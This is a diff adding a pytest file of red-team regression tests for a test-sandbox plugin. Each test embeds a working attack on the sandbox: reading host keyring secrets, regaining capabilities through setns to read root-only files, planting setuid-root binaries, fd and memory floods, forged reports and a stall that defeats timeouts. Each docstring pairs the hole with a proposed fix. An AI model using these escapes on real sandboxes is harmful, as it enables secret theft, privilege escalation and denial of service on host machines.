@@ -1,0 +1,630 @@
+"""Red-team findings: attacks on the sandbox that succeed today, each as a failing test.
+
+Same scheme as test_hostile.py (whose helpers it uses): a sandboxed test attacks, the host checks
+from the outside. Every probe is harmless to the machine: markers carry a fresh uuid and are
+removed, the keyring the probe reads and writes is a fresh session keyring of the outer test.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import os
+import re
+import socket
+import stat
+import tempfile
+import threading
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from test_hostile import _check, _run, _source, xdist
+
+from pytest_sandbox.runtime import cgroups
+
+__all__ = ["xdist"]  # the fixture every hostile test is parametrized with
+
+# -- 1. the session keyring: pytest's, shared with the sandbox ------------------------------------
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+SYS_ADD_KEY, SYS_KEYCTL = 248, 250  # x86_64
+KEYCTL_GET_KEYRING_ID, KEYCTL_JOIN_SESSION_KEYRING, KEYCTL_READ = 0, 1, 11
+KEY_SPEC_SESSION_KEYRING = -3
+
+
+def _keyctl(*args: int | bytes | ctypes.Array[ctypes.c_char] | None) -> int:
+    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
+    result = int(_libc.syscall(SYS_KEYCTL, *converted))
+    if result < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+def _keyring_ids(keyring: int) -> list[int]:
+    buf = ctypes.create_string_buffer(4096)
+    size = _keyctl(KEYCTL_READ, keyring, buf, 4096)
+    return [int.from_bytes(buf.raw[i : i + 4], "little") for i in range(0, min(size, 4096), 4)]
+
+
+def _describe(key: int) -> str:
+    buf = ctypes.create_string_buffer(4096)
+    _keyctl(6, key, buf, 4096)  # KEYCTL_DESCRIBE: "type;uid;gid;perm;description"
+    return buf.value.decode(errors="replace")
+
+
+@pytest.fixture
+def session_keyring() -> Iterator[int]:
+    """A fresh anonymous session keyring for this test process (and the pytest it starts)."""
+    _keyctl(KEYCTL_JOIN_SESSION_KEYRING, None)  # this process keeps it (holding only uuid-named keys)
+    yield _keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)
+
+
+KEYRING = """
+SECRET_NAME = __SECRET_NAME__
+HOST_SESSION = __HOST_SESSION__
+PLANTED = __PLANTED__
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+
+@pytest.mark.container
+def test_attack():
+    session = libc.syscall(250, ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(0))  # GET_KEYRING_ID @s
+    found = []
+    buf = ctypes.create_string_buffer(4096)
+    size = libc.syscall(250, ctypes.c_long(11), ctypes.c_long(session), buf, ctypes.c_long(4096))
+    for i in range(0, max(size, 0), 4):
+        key = int.from_bytes(buf.raw[i:i + 4], "little")
+        desc, payload = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(4096)
+        libc.syscall(250, ctypes.c_long(6), ctypes.c_long(key), desc, ctypes.c_long(4096))
+        n = libc.syscall(250, ctypes.c_long(11), ctypes.c_long(key), payload, ctypes.c_long(4096))
+        if SECRET_NAME.encode() in desc.value:
+            found.append(f"read the host's key {desc.value.decode()!r}: {payload.raw[:max(n, 0)]!r}")
+    if libc.syscall(248, b"user", PLANTED.encode(), b"x", ctypes.c_size_t(1), ctypes.c_long(session)) > 0:
+        if session == HOST_SESSION:
+            found.append(f"added key {PLANTED!r} to the host's session keyring")
+    assert not found, f"uid {os.getuid()}, session keyring {session}: " + "; ".join(found)
+"""
+
+
+def test_session_keyring_is_the_hosts(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...], session_keyring: int
+) -> None:
+    """The test process keeps pytest's session keyring (keyrings go with credentials, not namespaces, and
+    /proc/keys being masked does not stop keyctl): it reads the host's keys (Kerberos tickets, cifs/nfs
+    credentials, secrets a CI agent keeps there) and adds or clears keys that outlive the sandbox.
+    Fix: join a fresh anonymous session keyring (keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL)) in the builder,
+    as runc and systemd-nspawn do, before the test process exists."""
+    secret_name, secret = f"hostile-secret-{uuid.uuid4().hex}", f"payload-{uuid.uuid4().hex}".encode()
+    planted = f"hostile-planted-{uuid.uuid4().hex}"
+    key = _libc.syscall(
+        SYS_ADD_KEY, b"user", secret_name.encode(), secret, ctypes.c_size_t(len(secret)), ctypes.c_long(session_keyring)
+    )
+    assert key > 0, f"add_key: {os.strerror(ctypes.get_errno())}"
+    run = _run(
+        pytester,
+        monkeypatch,
+        _source(KEYRING, secret_name=secret_name, planted=planted, host_session=session_keyring),
+        *xdist,
+    )
+    after = [_describe(k) for k in _keyring_ids(session_keyring)]
+    problems = run.session_problems()
+    if any(planted in d for d in after):
+        problems.insert(0, f"keyring: the sandboxed test added {planted!r} to the host's session keyring: {after}")
+    if run.outcome("test_attack") != "PASSED":
+        problems.insert(0, f"keyring: {run.inner_failure()}")
+    _check(problems)
+
+
+# -- 2. root's commands namespace: every capability again ----------------------------------------
+
+COMMANDS_NS = """
+SECRET = __SECRET__
+CGROUP = __CGROUP__
+
+
+def user_namespace_fds():
+    found = []
+    for fd, link in fd_links().items():
+        if link.startswith("user:["):
+            found.append(fd)
+    return found
+
+
+@pytest.mark.container(image="busybox")
+def test_attack():
+    done = []
+    for fd in user_namespace_fds():
+        r, w = os.pipe()
+        pid = os.fork()
+        if pid == 0:  # setns into a user namespace wants a single-threaded process
+            out = ""
+            libc = ctypes.CDLL(None, use_errno=True)
+            if libc.setns(fd, 0x10000000) == 0:
+                out = f"setns into the user namespace of fd {fd}: CapEff {status_fields()['CapEff']}"
+                try:
+                    with open(SECRET) as f:
+                        out += f"; read {SECRET} (mode 000, owner uid 0): {f.read()!r}"
+                except OSError as exc:
+                    out += f"; {SECRET}: {exc}"
+                libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
+                os.makedirs("/tmp/cg", exist_ok=True)
+                unshared = libc.unshare(0x20000 | 0x02000000) == 0  # mount and cgroup namespaces
+                if unshared and libc.mount(b"cgroup2", b"/tmp/cg", b"cgroup2", 0, None) == 0:
+                    try:  # the test's cgroup namespace root: the host's cgroup of pytest when the test has no limits
+                        os.mkdir(f"/tmp/cg/{CGROUP}")
+                        out += f"; made the cgroup {CGROUP} in a fresh cgroup2 mount"
+                    except OSError as exc:
+                        out += f"; cgroup: {exc}"
+            os.write(w, out.encode())
+            os._exit(0)
+        os.close(w)
+        os.waitpid(pid, 0)
+        line = os.read(r, 65536).decode()
+        if line:
+            done.append(line)
+    try:
+        with open(SECRET) as f:
+            done.append(f"read {SECRET} directly: {f.read()!r}")
+    except OSError:
+        pass
+    assert not done, f"uid {os.getuid()}: " + "; ".join(done)
+"""
+
+
+def _host_cgroups_named(name: str) -> list[Path]:
+    """Directories called ``name`` in the host's cgroup2 hierarchies (a few levels deep)."""
+    found = []
+    with open("/proc/self/mountinfo") as f:
+        roots = [line.split()[4] for line in f if " - cgroup2 " in line]
+    for root in roots:
+        for path, dirs, _ in os.walk(root):
+            if path.count("/") - root.count("/") >= 4:
+                dirs.clear()
+            if name in dirs:
+                found.append(Path(path, name))
+    return found
+
+
+def test_commands_namespace_gives_capabilities_back(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    """A root test with ``image=`` holds an fd of the user namespace made for its commands (since Linux 5.12
+    a process without CAP_SETFCAP cannot map uid 0 in a namespace of its own). Its euid owns that namespace,
+    so setns() gives it every capability there: CAP_DAC_OVERRIDE over the files of every id the namespace
+    maps (it reads root files of mode 000, as root's plain pytest does). That residue is documented in the
+    README's Security section; what must hold is the rest: the cgroups it can make in a cgroup2 mount of its
+    own lie below its sandbox's leaf cgroup (every sandbox has one where cgroups are usable) and are gone
+    with it, and the session ends normally.
+    """
+    cgroup = f"hostile-cgroup-{uuid.uuid4().hex}"
+    secret_dir = Path(tempfile.mkdtemp(prefix="hostile-commands-ns-", dir=Path.home()))
+    secret = secret_dir / "secret"
+    try:
+        secret.write_text(f"root-only-{uuid.uuid4().hex}")
+        secret.chmod(0)
+        os.chmod(secret_dir, 0o755)
+        # $HOME is an overlay in the sandbox, with the host's file below: read-only for the test as here.
+        run = _run(pytester, monkeypatch, _source(COMMANDS_NS, secret=str(secret), cgroup=cgroup), *xdist)
+    finally:
+        secret.unlink(missing_ok=True)
+        secret_dir.rmdir()
+        left = _host_cgroups_named(cgroup)
+        for path in left:
+            path.rmdir()  # put the host back
+    problems = run.session_problems()  # the setns itself succeeds: see the README (what root changes)
+    if left:
+        problems.insert(0, f"commands namespace: the test left cgroup(s) on the host: {[str(p) for p in left]}")
+    _check(problems)
+
+
+# -- 3. fds sent over the report channel stay in pytest ------------------------------------------
+
+FD_FLOOD = """
+@pytest.mark.container
+def test_attack():
+    from pytest_sandbox import protocol
+    from pytest_sandbox.runtime import test_process
+    # Each fd pins this sandbox's mount namespace (its tmpfs and everything written there) in pytest.
+    fds = tuple(os.open("/proc/self/ns/mnt", os.O_RDONLY) for _ in range(4))
+    for _ in range(400):
+        protocol.send(test_process._channel, {"type": "log", "text": ""}, fds=fds)
+"""
+
+FD_CONFTEST = """
+import os, resource
+
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (min(1024, hard), hard))  # the usual default soft limit
+
+
+def pytest_unconfigure(config):
+    held = 0
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            held += os.readlink(f"/proc/self/fd/{name}").startswith("mnt:")
+        except OSError:
+            pass
+    with open(config.rootpath / f"held-{os.getpid()}.txt", "w") as f:  # xdist workers print nowhere
+        f.write(str(held))
+"""
+
+
+def test_fds_sent_over_the_report_channel_stay_in_pytest(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    """pytest receives whatever fds arrive with a message on the reports channel and never closes them
+    (``_read_reports``/``_drain`` drop ``fds``). A test fills pytest's fd table (EMFILE: later sandboxes and
+    pytest's own files fail) and pins its sandbox's namespaces, with their tmpfs contents, in pytest for the
+    rest of the session, past the per-sandbox scratch bound. Fix: close every fd that comes on the
+    reports channel (better: refuse a message from the test that carries any, as malformed)."""
+    pytester.makeconftest(FD_CONFTEST)
+    run = _run(pytester, monkeypatch, _source(FD_FLOOD), "-s", *xdist)
+    problems = run.session_problems()
+    held = [int(p.read_text()) for p in pytester.path.glob("held-*.txt")]
+    if any(held):
+        problems.insert(0, f"fds: pytest holds {max(held)} fds of sandbox mount namespaces the test sent it")
+    _check(problems)
+
+
+# -- 4. unix sockets of the host, reached from a sandbox without network -------------------------
+
+SOCKET = """
+PATH = __PATH__
+
+
+@pytest.mark.container
+def test_attack():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect(PATH)
+        said = s.recv(200)
+    except OSError:
+        return
+    assert not said, f"uid {os.getuid()}, network none: connected to the host's {PATH}, which said {said!r}"
+"""
+
+
+def _socket_dir() -> Path:
+    """A host directory the sandbox sees through its read-only view (not scratch, not an overlay)."""
+    for candidate in (os.environ.get("HOSTILE_SOCKET_DIR", ""), "/var/lib", "/srv", "/opt"):
+        if candidate and os.access(candidate, os.W_OK):
+            return Path(tempfile.mkdtemp(prefix="hostile-sock-", dir=candidate))
+    pytest.fail("no host directory outside scratch and overlays to bind a socket in: set HOSTILE_SOCKET_DIR")
+
+
+def test_host_unix_sockets_reachable_without_network(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    """A network namespace does not cover filesystem sockets, and connect() needs no write access to
+    the mount (the read-only host view does not stop it). Every host service listening on a socket
+    outside the sandbox's scratch places and overlays is reachable by a test with network="none": LXD's
+    /var/snap/lxd/common/lxd/unix.socket, a docker.sock not under /run, agents, databases. A socket
+    reached through an overlay is refused (the overlay's inode is not the socket's), which is why $HOME
+    and the rootdir are safe. Fix: serve the host view through overlayfs too (per top-level directory,
+    as FROM host images do), or a seccomp/Landlock rule against connect() to pathname sockets."""
+    directory = _socket_dir()
+    path = directory / "service.sock"
+    greeting = f"host-service-{uuid.uuid4().hex}".encode()
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(path))
+    os.chmod(directory, 0o755)
+    path.chmod(stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
+    server.listen(4)
+    stop = threading.Event()
+
+    def serve() -> None:
+        server.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            conn.sendall(greeting)
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        run = _run(pytester, monkeypatch, _source(SOCKET, path=str(path)), *xdist)
+    finally:
+        stop.set()
+        thread.join()
+        server.close()
+        path.unlink()
+        directory.rmdir()
+    problems = run.session_problems()
+    if run.outcome("test_attack") != "PASSED":
+        problems.insert(0, f"host socket: {run.inner_failure()}")
+    _check(problems)
+
+
+# -- 5. memory= bounds the sandbox, not what it makes pytest hold ---------------------------------
+
+MEMORY_FLOOD = """
+@pytest.mark.container(memory="32M")
+def test_attack():
+    from pytest_sandbox import protocol
+    from pytest_sandbox.runtime import test_process
+    text = "w" * (1 << 20)
+    for lineno in range(200):  # 200 MiB in pytest, from a sandbox limited to 32 MiB
+        protocol.send(test_process._channel, {"type": "warning", "message": text, "when": "runtest",
+                      "category": ["builtins", "UserWarning"], "filename": "flood.py", "lineno": lineno})
+"""
+
+MEMORY_CONFTEST = """
+def pytest_unconfigure(config):
+    with open("/proc/self/status") as f:
+        hwm = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
+    print(f"PYTEST-PEAK-KIB={hwm}")
+"""
+
+
+def test_memory_limit_bypassed_through_pytest(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    """Every warning (and log record) a sandbox sends is kept or written by pytest, each up to 128 MiB,
+    their number unbounded: a test under memory="32M" makes the pytest process, which no limit covers,
+    hold hundreds of MiB (860 MiB peak measured for 400 warnings), and so the host's RAM. Fix: a budget per
+    sandbox for what its messages may make pytest hold (e.g. the memory limit, or a few MiB of warnings and
+    logs in all), past which the test fails as malformed."""
+    pytester.makeconftest(MEMORY_CONFTEST)
+    run = _run(pytester, monkeypatch, _source(MEMORY_FLOOD), "--disable-warnings", "-s", *xdist)
+    problems = run.session_problems()
+    peaks = [int(n) // 1024 for n in re.findall(r"PYTEST-PEAK-KIB=(\d+)", run.text)]
+    if peaks and max(peaks) > 150:
+        problems.insert(0, f"memory: a sandbox limited to 32 MiB made pytest peak at {max(peaks)} MiB")
+    _check(problems)
+
+
+# -- 6. a report pytest accepts, then cannot print --------------------------------------------------
+
+BAD_SECTIONS = """
+@pytest.fixture
+def forged(request):
+    from pytest_sandbox import protocol
+    from pytest_sandbox.runtime import test_process
+    data = {"$report_type": "TestReport", "nodeid": request.node.nodeid, "location": ["test_probe.py", 1, "x"],
+            "keywords": {}, "outcome": "failed", "longrepr": "forged", "when": "setup", "user_properties": [],
+            "sections": [["a", "b", "c"]], "duration": 0.0, "start": 0.0, "stop": 0.0}
+    protocol.send(test_process._channel, {"type": "report", "data": data})
+
+
+@pytest.mark.container
+def test_attack(forged):
+    pass
+"""
+
+
+def test_report_with_bad_sections_crashes_pytest(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    """``sections`` is not checked (only ``user_properties`` is): a section of three strings passes
+    ``_Relay._report`` and crashes pytest's terminal summary (ValueError in ``_outrep_summary``), so the
+    session ends in a traceback without its summary; "a malformed message fails that test, the session
+    goes on" does not hold. Fix: check that ``sections`` is a list of two strings each (and ``longrepr``,
+    ``location``, ``outcome``, ``keywords`` against what pytest's own reports hold), else malformed."""
+    run = _run(pytester, monkeypatch, _source(BAD_SECTIONS), *xdist)
+    problems = run.session_problems()
+    if "ValueError" in run.text and "_outrep_summary" in run.text:
+        problems.insert(0, "report: a forged sections entry crashed pytest's terminal summary")
+    _check(problems)
+
+
+# -- 7. setuid-root executables on the host's disk, through a kept read/write layer -----------------
+
+SETUID = """
+@pytest.mark.container(image="busybox")
+def test_attack(sandbox):
+    import shutil
+    planted = "/run/pytest-sandbox/image/bin/hostile-setuid"
+    shutil.copy("/run/pytest-sandbox/image/bin/busybox", planted)
+    os.chmod(planted, 0o6755)  # the owner may set these bits; no_new_privs only matters inside
+    assert False, "failed, so that --sandbox-keep=failed keeps the read/write layer on the host's disk"
+"""
+
+
+def test_kept_layer_holds_setuid_root_executables(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """A root test owns the image's files (uid 0), so it may chmod u+s them; with --sandbox-keep=failed its
+    read/write layer is kept in the store on the host's disk, setuid-root busybox included (the store's
+    directories are 0755; only /root's 0700 stands between it and every local user, and a store set with
+    PYTEST_SANDBOX_STORE or --sandbox-store in a shared place has not even that). `pytest-sandbox commit`
+    then puts it into an image. Fix: strip setuid/setgid bits (and security.capability xattrs) from a
+    layer's files when keeping or committing it, or keep the store's containers/ directory 0700."""
+    store = tmp_path / "store"
+    store.mkdir()
+    monkeypatch.setenv("PYTEST_SANDBOX_STORE", str(store))
+    try:
+        run = _run(pytester, monkeypatch, _source(SETUID), "--sandbox-keep=failed")
+        found = []
+        for path, _, files in os.walk(store):
+            for name in files:
+                st = os.lstat(os.path.join(path, name))
+                foreign = st.st_uid != os.getuid() or st.st_uid == 0
+                if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID) and foreign:
+                    found.append(f"{os.path.join(path, name)} ({stat.filemode(st.st_mode)}, uid {st.st_uid})")
+    finally:
+        for path, _, files in os.walk(store):
+            for name in files:
+                full = os.path.join(path, name)
+                if not os.path.islink(full):
+                    os.chmod(full, os.lstat(full).st_mode & 0o777)  # no setuid file left behind
+    problems = [p for p in run.session_problems() if "did not pass" in p or "INTERNALERROR" in p]
+    if found:
+        problems.insert(0, f"setuid executables owned by another user (root) on the host's disk: {found}")
+    _check(problems)
+
+
+# -- 8. the host's terminal, shared with a test run with -s -----------------------------------------
+
+TERMINAL = """
+import fcntl, termios
+
+
+@pytest.mark.container
+def test_attack():
+    done = []
+    attrs = termios.tcgetattr(0)
+    attrs[3] &= ~termios.ECHO
+    try:
+        termios.tcsetattr(0, termios.TCSANOW, attrs)
+        done.append("turned the terminal's echo off")
+    except termios.error:
+        pass
+    try:
+        fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_NONBLOCK)
+        done.append("made pytest's stdout non-blocking")
+    except OSError:
+        pass
+    assert not done, f"uid {os.getuid()}: " + "; ".join(done)
+"""
+
+
+def test_terminal_shared_with_capture_off(pytester: pytest.Pytester) -> None:
+    """With -s (or --capture=sys/tee-sys) fds 0-2 of the test are pytest's own open files: the user's
+    terminal or CI's pipe. The test changes the terminal's settings (echo off, raw mode: they outlive
+    pytest, in the user's shell) and the shared file status flags (O_NONBLOCK on pytest's stdout, so
+    pytest's and the shell's later writes fail with EAGAIN). TIOCSTI and TIOCSCTTY are refused. Fix:
+    with capture off, give the test a pty (or pipe) of its own whose output pytest copies to its own
+    stdout, as ``script`` does, never the host's fds."""
+    import fcntl
+    import pty
+    import select
+    import subprocess
+    import sys
+    import termios
+
+    pytester.makepyfile(test_probe=_source(TERMINAL))
+    master, slave = pty.openpty()
+    output = b""
+    try:
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-rA", "-s", "test_probe.py"],
+            stdin=slave,
+            stdout=slave,
+            stderr=slave,
+            cwd=pytester.path,
+            start_new_session=True,
+        )
+        while True:  # the slave stays open here, so no EIO at the end: read until pytest is gone and quiet
+            if select.select([master], [], [], 0.2)[0]:
+                output += os.read(master, 65536)
+            elif proc.poll() is not None:
+                break
+        proc.wait(timeout=60)
+        echo = bool(termios.tcgetattr(slave)[3] & termios.ECHO)
+        nonblocking = bool(fcntl.fcntl(slave, fcntl.F_GETFL) & os.O_NONBLOCK)
+    finally:
+        os.close(master)
+        os.close(slave)
+    text = output.decode(errors="replace")
+    problems = []
+    if not echo:
+        problems.append("the terminal pytest ran on has echo turned off after the run")
+    if nonblocking:
+        problems.append("pytest's stdout (shared with the shell) is non-blocking after the run")
+    if re.search(r"^PASSED \S*test_bystander", re.sub(r"\x1b\[[0-9;]*m", "", text), re.M) is None:
+        problems.append(f"the bystander did not pass: {text[-1500:]}")
+    _check(problems)
+
+
+# -- 9. memory= as RLIMIT_AS (no cgroup): a tmpfs of the test's own is RAM outside it ------------------
+
+TMPFS_MEMORY = """
+CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
+
+
+@pytest.mark.container(memory="64M")
+def test_attack():
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # a user and mount namespace of its own: mounting a tmpfs of any size is allowed there
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
+        uid, gid = os.getuid(), os.getgid()
+        libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
+        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
+            try:
+                with open(f"/proc/self/{name}", "w") as f:
+                    f.write(text)
+            except OSError:
+                pass
+        os.makedirs("/tmp/big", exist_ok=True)
+        if libc.mount(b"tmpfs", b"/tmp/big", b"tmpfs", 0, b"size=1g") == 0:
+            chunk = b"x" * (1 << 20)
+            try:
+                with open("/tmp/big/fill", "wb") as f:
+                    for _ in range(256):
+                        f.write(chunk)
+                        f.flush()
+                        os.write(w, b".")  # progress, in case the OOM killer ends this process
+            except OSError:
+                pass
+        os._exit(0)
+    os.close(w)
+    written = 0
+    while True:
+        got = os.read(r, 4096)
+        if not got:
+            break
+        written += len(got)
+    os.waitpid(pid, 0)
+    assert written <= 128, (f"uid {os.getuid()}, memory=64M: wrote {written} MiB of RAM into a tmpfs "
+                            "mounted in a user namespace of its own")
+"""
+
+
+def test_memory_limit_bypassed_with_a_tmpfs_of_its_own(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, xdist: tuple[str, ...]
+) -> None:
+    backend = cgroups.choose("auto", os.environ.get("PYTEST_SANDBOX_CGROUP"), str(pytester.path))
+    if not isinstance(backend, cgroups.CgroupBackend):
+        pytest.skip(
+            "host gives this user no cgroup: memory= is then RLIMIT_AS, which cannot bound tmpfs pages "
+            "(README: Limits by host)"
+        )
+    """Where memory= is RLIMIT_AS (a plain user without a delegated cgroup: the rlimit backend), file pages
+    are not address space: a test mounts a tmpfs of any size in a user namespace of its own and fills RAM
+    (256 MiB written under memory=64M; the bound on the sandbox's own tmpfs does not reach this one). With a
+    cgroup the pages are charged to the sandbox and this holds. Fix: with the rlimit backend, refuse
+    CLONE_NEWUSER to the test (seccomp) or say in the README that memory= then bounds address space only."""
+    run = _run(pytester, monkeypatch, _source(TMPFS_MEMORY), *xdist)
+    problems = run.session_problems()
+    if "wrote" in run.inner_failure() and "tmpfs" in run.inner_failure():
+        problems.insert(0, f"memory: {run.inner_failure()}")
+    _check(problems)
+
+
+# -- 10. half a message: pytest blocks in recv and the timeout never fires -------------------------------
+
+STALL = """
+@pytest.mark.container(timeout=2)
+def test_attack():
+    import faulthandler, time
+    from pytest_sandbox import protocol
+    from pytest_sandbox.runtime import test_process
+    faulthandler.cancel_dump_traceback_later()  # the sandbox's own watchdog is the test's to stop
+    test_process._channel.send(protocol.MORE + b"{")  # the first chunk of a message that never ends
+    time.sleep(3600)
+"""
+
+
+def test_half_a_message_defeats_the_timeout(pytester: pytest.Pytester) -> None:
+    """pytest reads a message with a blocking ``protocol.recv`` once the reports channel is readable; after a
+    first chunk marked "more" it waits in recvmsg for the rest, outside the select() that enforces the
+    deadline (timeout + 5 s). A test with timeout=2 that cancels its faulthandler watchdog and sends one
+    such chunk hangs pytest, and the session, forever. Fix: reassemble chunks across select() wake-ups
+    (non-blocking reads into a per-channel buffer) so the deadline keeps running, or give the reports
+    socket a timeout equal to the time left."""
+    pytester.makepyfile(test_probe=_source(STALL))
+    try:
+        result = pytester.runpytest_subprocess("-p", "no:cacheprovider", "-rA", timeout=40)
+    except pytester.TimeoutExpired:
+        pytest.fail("a test with timeout=2 hung the session for 40 s (killed by pytester)")
+    text = "\n".join(result.outlines)
+    assert "PASSED test_probe.py::test_bystander" in text, text[-2000:]
